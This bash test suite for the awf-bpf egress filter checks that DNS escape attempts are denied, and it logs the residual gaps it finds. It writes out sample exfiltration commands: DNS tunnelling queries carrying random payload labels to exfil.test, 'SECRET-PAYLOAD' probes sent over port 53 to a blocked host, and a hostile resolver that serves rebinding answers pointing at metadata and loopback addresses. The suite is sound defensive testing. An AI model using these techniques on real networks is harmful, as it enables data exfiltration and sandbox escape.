# shellcheck shell=bash
# Escape battery, DNS: other resolvers, other DNS transports, and DNS as a
# tunnel. Port 53 of every server is answered by awf-bpf's filtering
# resolver; everything else DNS-like is ordinary traffic to a destination
# the policy does not allow.
# shellcheck source=../tools/escape/lib.sh
. "$ROOT/tests/tools/escape/lib.sh"

DIGE="dig +time=2 +tries=1"

esc_dns_policy() { policy "p-$ESC_AS" '"allow_domains": ["allowed.test"]'; }

# esc_labels N: N random DNS labels, unique to this run.
esc_labels() {
	local i
	for ((i = 0; i < $1; i++)); do
		printf 'x%s%s%s\n' "$(od -An -N6 -tx1 /dev/urandom | tr -d ' \n')" "$ESC_AS" "$i"
	done
}

# A query to the rogue resolver over UDP: redirected to awf-bpf's resolver,
# answered from the trusted one; the rogue sees nothing.
esc_dns_rogue_udp() {
	local pol
	pol=$(esc_dns_policy)
	esc_sniff "$ROGUE4" "$ROGUE6"
	esc_sh "$pol" "$DIGE +short @$ROGUE4 allowed.test A"
	assert_eq "$ALLOWED4" "$AWF_OUT" "dig @$ROGUE4 allowed.test (the trusted answer, not $ROGUE_ALLOWED4)"
	assert_eq 0 "$(esc_dns_queries rogue)" "queries received by the rogue server"
	[ "$(esc_dns_queries trusted allowed.test)" -ge 1 ] || fail "the trusted server got no query for allowed.test"
	esc_nothing_reached "the rogue DNS server"
}
test_escape_dns_rogue_udp() { escape_both esc_dns_rogue_udp; }

# The same over TCP (harden-runner's DNS-over-TCP bypass).
esc_dns_rogue_tcp() {
	local pol
	pol=$(esc_dns_policy)
	esc_sniff "$ROGUE4" "$ROGUE6"
	esc_sh "$pol" "$DIGE +tcp +short @$ROGUE4 allowed.test A"
	assert_eq "$ALLOWED4" "$AWF_OUT" "dig +tcp @$ROGUE4 allowed.test"
	assert_eq 0 "$(esc_dns_queries rogue)" "queries received by the rogue server"
	esc_nothing_reached "the rogue DNS server"
}
test_escape_dns_rogue_tcp() { escape_both esc_dns_rogue_tcp; }

# The rogue resolver's IPv6 address, UDP and TCP, A and AAAA.
esc_dns_rogue_ipv6() {
	local pol
	pol=$(esc_dns_policy)
	esc_sniff "$ROGUE4" "$ROGUE6"
	esc_sh "$pol" "$DIGE +short @$ROGUE6 allowed.test A; $DIGE +tcp +short @$ROGUE6 allowed.test AAAA"
	assert_eq "$ALLOWED4
$ALLOWED6" "$AWF_OUT" "dig @$ROGUE6 (UDP A, TCP AAAA)"
	assert_eq 0 "$(esc_dns_queries rogue)" "queries received by the rogue server"
	esc_nothing_reached "the rogue DNS server"
}
test_escape_dns_rogue_ipv6() { escape_both esc_dns_rogue_ipv6; }

# DNS on port 5353 (mDNS-style, unicast to the rogue server, UDP and TCP,
# IPv4 and IPv6): 5353 is not DNS to awf-bpf, so it is not redirected, it
# is plainly denied.
esc_dns_port_5353() {
	local pol
	pol=$(esc_dns_policy)
	esc_world_servers "udp:$ROGUE4:5353" "udp:[$ROGUE6]:5353" "http:$ROGUE4:5353"
	esc_sniff "$ROGUE4" "$ROGUE6"
	esc_sh "$pol" "$PY $PROBE dns $ROGUE4 allowed.test --port 5353
		$PY $PROBE dns $ROGUE4 allowed.test --port 5353 --tcp
		$PY $PROBE dns $ROGUE6 allowed.test AAAA --port 5353"
	esc_nth_failed 1 "dns udp $ROGUE4:5353" EPERM
	esc_nth_failed 2 "dns tcp $ROGUE4:5353" EPERM
	esc_nth_failed 3 "dns udp [$ROGUE6]:5353" EPERM
	esc_nothing_reached "the rogue server on 5353"
	assert_eq 0 "$(grep -cv ' ready: ' "$ESC_WORLD_LOG")" "what the 5353 servers received"
	esc_audit_deny "$ROGUE4" 5353 not_in_policy sendmsg
	esc_audit_deny "$ROGUE4" 5353 not_in_policy connect
	esc_audit_deny "$ROGUE6" 5353 not_in_policy sendmsg
}
test_escape_dns_port_5353() { escape_both esc_dns_port_5353; }

# DNS over TLS (TCP 853) to the trusted resolver's and the rogue's address:
# a resolver's address is not in the policy just because it is a resolver.
esc_dns_over_tls() {
	local pol
	pol=$(esc_dns_policy)
	esc_world_servers "http:$DNS4:853" "http:$ROGUE4:853" "http:[$DNS6]:853"
	esc_sniff "$DNS4" "$ROGUE4" "$DNS6"
	esc_sh "$pol" "$PY $PROBE tcp $DNS4 853; $PY $PROBE tcp $ROGUE4 853; $PY $PROBE tcp $DNS6 853"
	esc_nth_failed 1 "tcp $DNS4:853" EPERM
	esc_nth_failed 2 "tcp $ROGUE4:853" EPERM
	esc_nth_failed 3 "tcp [$DNS6]:853" EPERM
	esc_nothing_reached "the resolvers on port 853"
	assert_eq 0 "$(grep -cv ' ready: ' "$ESC_WORLD_LOG")" "connections the 853 servers received"
	esc_audit_deny "$DNS4" 853 not_in_policy connect
	esc_audit_deny "$ROGUE4" 853 not_in_policy connect
	esc_audit_deny "$DNS6" 853 not_in_policy connect
}
test_escape_dns_over_tls() { escape_both esc_dns_over_tls; }

# DNS over HTTPS (a dns-message POST to :443) to the trusted resolver's
# address (the enforcer's own upstream, harden-runner's hole) and to the
# rogue's: neither address is in the policy.
esc_dns_over_https() {
	local pol
	pol=$(esc_dns_policy)
	"$PY" -c 'import struct,sys; sys.stdout.buffer.write(struct.pack("!HHHHHH",1,0x100,1,0,0,0)+b"\x07allowed\x04test\x00"+struct.pack("!HH",1,1))' >"$ESC_DIR/q.bin"
	esc_world_servers "http:$DNS4:443" "http:$ROGUE4:443"
	esc_sniff "$DNS4" "$ROGUE4"
	esc_sh "$pol" "for a in $DNS4 $ROGUE4; do
		curl -s -m 3 --noproxy '*' -H 'content-type: application/dns-message' --data-binary @$ESC_DIR/q.bin http://\$a:443/dns-query; echo \"curl=\$?\"; done"
	assert_eq "curl=7
curl=7" "$AWF_OUT" "curl DoH to $DNS4:443 and $ROGUE4:443 (7: could not connect)"
	esc_nothing_reached "the resolvers on port 443"
	assert_eq 0 "$(grep -cv ' ready: ' "$ESC_WORLD_LOG")" "requests the 443 servers received"
	esc_audit_deny "$DNS4" 443 not_in_policy connect
	esc_audit_deny "$ROGUE4" 443 not_in_policy connect
}
test_escape_dns_over_https() { escape_both esc_dns_over_https; }

# RESIDUAL: DoH to an address the policy allows is ordinary HTTPS to it;
# awf-bpf does not look inside connections. Shown with a dns-message POST
# to the allowed host's port 443 (plain HTTP in the testbed): it arrives.
esc_doh_to_allowed_address_residual() {
	local pol
	pol=$(esc_policy_allowed_host)
	"$PY" -c 'import struct,sys; sys.stdout.buffer.write(struct.pack("!HHHHHH",1,0x100,1,0,0,0)+b"\x07allowed\x04test\x00"+struct.pack("!HH",1,1))' >"$ESC_DIR/q.bin"
	esc_sh "$pol" "curl -s -m 3 --noproxy '*' -H 'content-type: application/dns-message' --data-binary @$ESC_DIR/q.bin http://$ALLOWED4:443/dns-query"
	assert_eq "hello from $ALLOWED4:443" "$AWF_OUT" "a DoH-shaped POST to an allowed address (residual: it goes through)"
	[ "$(esc_server_hits "http $ALLOWED4:443 ")" -ge 1 ] || fail "the allowed host did not log the POST"
	log "RESIDUAL: a DoH request to an allowed address is not told apart from other HTTPS"
}
test_escape_doh_to_allowed_address_residual() { escape_both esc_doh_to_allowed_address_residual; }

# DNS tunnelling to a zone the policy does not allow: random labels (the
# payload) under exfil.test, by UDP, TCP, IPv6, to the trusted and the
# rogue server, A, AAAA and TXT, and a label holding a literal dot that
# spells allowed.test. The filter answers NXDOMAIN itself; no label ever
# reaches an upstream server's log.
esc_dns_tunnel_blocked_zone() {
	local pol labels l n
	pol=$(esc_dns_policy)
	mapfile -t labels < <(esc_labels 6)
	esc_sh "$pol" "$DIGE @$DNS4 ${labels[0]}.exfil.test TXT | grep -o 'status: [A-Z]*'
		$DIGE +tcp @$DNS4 ${labels[1]}.exfil.test A | grep -o 'status: [A-Z]*'
		$DIGE @$ROGUE4 ${labels[2]}.exfil.test A | grep -o 'status: [A-Z]*'
		$DIGE @$DNS6 ${labels[3]}.exfil.test AAAA | grep -o 'status: [A-Z]*'
		$DIGE @$DNS4 ${labels[4]}.allowed.test.exfil.test A | grep -o 'status: [A-Z]*'
		$DIGE @$DNS4 '${labels[5]}.exfil.allowed\\.test' A | grep -o 'status: [A-Z]*'"
	assert_eq "status: NXDOMAIN
status: NXDOMAIN
status: NXDOMAIN
status: NXDOMAIN
status: NXDOMAIN
status: NXDOMAIN" "$AWF_OUT" "answers for names under exfil.test"
	n=$(esc_audit_count '.event == "dns" and .verdict == "deny" and (.reason == "name_not_allowed" or .reason == "name not allowed")')
	[ "$n" -ge "${#labels[@]}" ] || { esc_audit_show; fail "expected ${#labels[@]} dns deny events in the audit log, got $n"; }
	for l in "${labels[@]}"; do
		n=$(($(esc_dns_queries trusted "$l") + $(esc_dns_queries rogue "$l")))
		[ "$n" = 0 ] || fail "the payload label $l reached an upstream server: $(grep -hF "$l" "$AWFT_STATE"/dns-*.log | head -n 3)"
	done
	log "none of ${#labels[@]} payload labels reached upstream"
}
test_escape_dns_tunnel_blocked_zone() { escape_both esc_dns_tunnel_blocked_zone; }

# RESIDUAL: tunnelling through an ALLOWED zone. allow_domains entries
# cover their subdomains by default, so labels under allowed.test are
# forwarded, and reach the upstream (here the trusted dnsmasq's log).
# "subdomains": false narrows this to the name itself.
esc_dns_tunnel_allowed_zone_residual() {
	local pol labels l
	pol=$(esc_dns_policy)
	mapfile -t labels < <(esc_labels 2)
	esc_sh "$pol" "$DIGE @$DNS4 ${labels[0]}.allowed.test TXT >/dev/null; $DIGE +tcp @$ROGUE4 ${labels[1]}.allowed.test A >/dev/null; echo done"
	for l in "${labels[@]}"; do
		[ "$(esc_dns_queries trusted "$l")" -ge 1 ] || fail "the label $l under the allowed zone did not reach upstream (did the residual risk go away? update docs/threat-model.md)"
	done
	log "RESIDUAL: ${#labels[@]} payload labels under allowed.test reached the upstream resolver"
	pol=$(policy "p2-$ESC_AS" '"allow_domains": [{"domain": "allowed.test", "subdomains": false}]')
	mapfile -t labels < <(esc_labels 1)
	esc_sh "$pol" "$DIGE @$DNS4 ${labels[0]}.allowed.test A | grep -o 'status: [A-Z]*'"
	assert_eq "status: NXDOMAIN" "$AWF_OUT" "a label under allowed.test with subdomains: false"
	assert_eq 0 "$(esc_dns_queries trusted "${labels[0]}")" "upstream queries with subdomains: false"
}
test_escape_dns_tunnel_allowed_zone_residual() { escape_both esc_dns_tunnel_allowed_zone_residual; }

# Port 53 as a raw pipe to the blocked host: TCP and UDP to the blocked
# host's port 53 carrying non-DNS data. Port 53 always goes to awf-bpf's
# resolver, which answers malformed queries itself: nothing reaches the
# blocked host, nor the upstream resolver.
esc_dns_port53_raw_data() {
	local pol
	pol=$(esc_dns_policy)
	esc_sniff "$BLOCKED4" "$BLOCKED6" "$DNS4" "$DNS6"
	esc_sh "$pol" "$PY $PROBE tcp $BLOCKED4 53 --send 'SECRET-PAYLOAD-OVER-TCP-53\\n' --timeout 2
		$PY $PROBE udp $BLOCKED4 53 --send 'SECRET-PAYLOAD-OVER-UDP-53' --timeout 2
		$PY $PROBE udp $BLOCKED6 53 --send 'SECRET-PAYLOAD-OVER-UDP6-53' --timeout 2"
	log "results: $(printf '%s' "$AWF_OUT" | tr '\n' ';')"
	assert_not_contains "$AWF_OUT" "hello from" "answers from the blocked host"
	esc_nothing_reached "the blocked host or the upstream resolver"
}
test_escape_dns_port53_raw_data() { escape_both esc_dns_port53_raw_data; }

# DNS rebinding: an allowed domain whose DNS the attacker controls (here
# dnsd.py on the allowed host, the policy's only resolver) answers with
# the metadata/link-local address, loopback, the host's own address, the
# unspecified address, and their IPv6 and v4-mapped forms. The filter may
# learn them, but learned addresses never override the reserved and local
# ranges: each stays denied.
esc_dns_rebinding() {
	local pol q ready=$TEST_TMP/dnsd-$ESC_AS.ready
	q=$(free_port)
	esc_host_servers "http:0.0.0.0:$q" "http:[::]:$q"
	"${WORLD_NS[@]}" "$PY" "$ESC_TOOLS/dnsd.py" --listen "$ALLOWED4" --zone rebind.test --hold 30 \
		--ready-file "$ready" --log "$TEST_TMP/dnsd-$ESC_AS.log" \
		"A:$LINKLOCAL4" A:127.0.0.1 "A:$AWFT_HOST4" A:0.0.0.0 AAAA:::1 "AAAA:::ffff:$LINKLOCAL4" "AAAA:$AWFT_HOST6" \
		>"$TEST_TMP/dnsd-$ESC_AS.err" 2>&1 &
	BG_PIDS+=($!)
	wait_file "$ready" 50 || fail "dnsd did not start: $(cat "$TEST_TMP/dnsd-$ESC_AS.err")"
	pol=$(policy_file "p-$ESC_AS" "{\"version\": 1, \"dns_servers\": [\"$ALLOWED4\"], \"allow_domains\": [{\"domain\": \"rebind.test\", \"ports\": \"all\"}]}")
	esc_sniff "$LINKLOCAL4"
	esc_sh "$pol" "echo \"answers \$($DIGE +short @$DNS4 rebind.test A | sort | tr '\\n' ' ')\$($DIGE +short @$DNS4 rebind.test AAAA | sort | tr '\\n' ' ')\"
		$PY $PROBE tcp $LINKLOCAL4 80; $PY $PROBE udp $LINKLOCAL4 $UDP_ECHO_PORT; $PY $PROBE v4mapped $LINKLOCAL4 80
		$PY $PROBE tcp 127.0.0.1 $q; $PY $PROBE tcp $AWFT_HOST4 $q; $PY $PROBE tcp 0.0.0.0 $q
		$PY $PROBE tcp ::1 $q; $PY $PROBE tcp $AWFT_HOST6 $q"
	log "$(esc_nth 1) (queries: $(tr '\n' ';' <"$TEST_TMP/dnsd-$ESC_AS.log" 2>/dev/null))"
	[ -s "$TEST_TMP/dnsd-$ESC_AS.log" ] || fail "the hostile resolver got no query: the attack was not set up"
	esc_nth_failed 2 "tcp $LINKLOCAL4:80 (learned from rebind.test)" EPERM
	esc_nth_failed 3 "udp $LINKLOCAL4:$UDP_ECHO_PORT" EPERM
	esc_nth_failed 4 "tcp [::ffff:$LINKLOCAL4]:80" EPERM
	esc_nth_failed 5 "tcp 127.0.0.1:$q" EPERM
	esc_nth_failed 6 "tcp $AWFT_HOST4:$q" EPERM
	esc_nth_failed 7 "tcp 0.0.0.0:$q" EPERM
	esc_nth_failed 8 "tcp [::1]:$q" EPERM
	esc_nth_failed 9 "tcp [$AWFT_HOST6]:$q" EPERM
	esc_nothing_reached "the metadata address"
	esc_no_server_hits "$LINKLOCAL4:"
	esc_host_untouched
	esc_audit_deny "$LINKLOCAL4" 80 link_local connect
	esc_audit_deny 127.0.0.1 "$q" loopback connect
	esc_audit_deny "$AWFT_HOST4" "$q" loopback connect
}
test_escape_dns_rebinding() { escape_both esc_dns_rebinding; }

# RESIDUAL: an allowed domain's DNS decides where the domain is. If the
# attacker controls an allowed zone's answers (here dnsd.py, the policy's
# resolver), any ordinary address it names becomes reachable: the blocked
# host, once rebind.test says it lives there. The name check narrows it:
# the request must name the allowed zone (an IP-literal Host is refused),
# which a server that answers to any Host does not mind.
esc_dns_attacker_zone_residual() {
	local pol ready=$TEST_TMP/dnsd-$ESC_AS.ready
	"${WORLD_NS[@]}" "$PY" "$ESC_TOOLS/dnsd.py" --listen "$ALLOWED4" --zone rebind.test --hold 30 \
		--ready-file "$ready" "A:$BLOCKED4" >"$TEST_TMP/dnsd-$ESC_AS.err" 2>&1 &
	BG_PIDS+=($!)
	wait_file "$ready" 50 || fail "dnsd did not start: $(cat "$TEST_TMP/dnsd-$ESC_AS.err")"
	pol=$(policy_file "p-$ESC_AS" "{\"version\": 1, \"dns_servers\": [\"$ALLOWED4\"], \"allow_domains\": [\"rebind.test\"]}")
	esc_sh "$pol" "$PY $PROBE tcp $BLOCKED4 80; $DIGE +short @$DNS4 x.rebind.test A;
		$PY $PROBE tcp $BLOCKED4 80; $PY $PROBE tcp $BLOCKED4 80 --host x.rebind.test"
	esc_nth_failed 1 "tcp $BLOCKED4:80 before the lookup" EPERM
	assert_eq "$BLOCKED4" "$(esc_nth 2)" "the attacker's answer for x.rebind.test"
	esc_nth_failed 3 "http to $BLOCKED4:80 with Host $BLOCKED4 after the lookup" EACCES
	assert_eq "ok hello from $BLOCKED4:80" "$(esc_nth 4)" "http to $BLOCKED4:80 with Host x.rebind.test (residual: the zone's answer is trusted)"
	log "RESIDUAL: an allowed zone's DNS can point it at any ordinary address"
}
test_escape_dns_attacker_zone_residual() { escape_both esc_dns_attacker_zone_residual; }
